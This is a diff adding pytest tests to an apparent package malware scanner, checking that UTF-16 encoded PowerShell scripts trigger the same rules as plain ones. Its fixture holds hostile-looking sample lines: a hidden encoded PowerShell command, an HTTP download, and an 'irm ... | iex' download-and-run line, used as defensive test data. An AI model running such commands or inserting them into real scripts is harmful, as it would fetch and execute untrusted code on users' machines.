@@ -114,3 +114,24 @@ def test_a_script_in_utf16_is_read_as_its_host_reads_it(
     wide = findings(run_check(catalog["malware_rules"], make_package({"a.ps1": f"\ufeff{text}".encode(encoding)})))
     assert plain
     assert {f.rule for f in wide} == {f.rule for f in plain}
+
+
+WIDE = {
+    "obfuscation": ("a.ps1", "powershell -NoP -W Hidden -Enc " + "QQBCAEMARABFAEYA" * 8 + "\r\n"),
+    "plain_http": ("a.ps1", "# grüße\r\nInvoke-WebRequest -Uri http://cdn.acme-tools.net/a.ps1 -OutFile a.ps1\r\n"),
+    "download_and_run": ("a.ps1", "# grüße\r\nirm https://example.invalid/a | iex\r\n"),
+}
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+@pytest.mark.parametrize("odd", [b"", b"x"], ids=["whole", "odd"])
+@pytest.mark.parametrize("check", WIDE)
+def test_two_bytes_a_character_hide_nothing(
+    catalog: Any, make_package: Any, run_check: Any, check: str, encoding: str, odd: bytes
+) -> None:
+    name, text = WIDE[check]
+    plain, wide = text.encode(), f"\ufeff{text}".encode(encoding) + odd
+    found = {f.rule: plain[f.start : f.end] for f in findings(run_check(catalog[check], make_package({name: plain})))}
+    again = findings(run_check(catalog[check], make_package({name: wide})))
+    assert found
+    assert {f.rule: wide[f.start : f.end].decode(encoding).encode() for f in again} == found
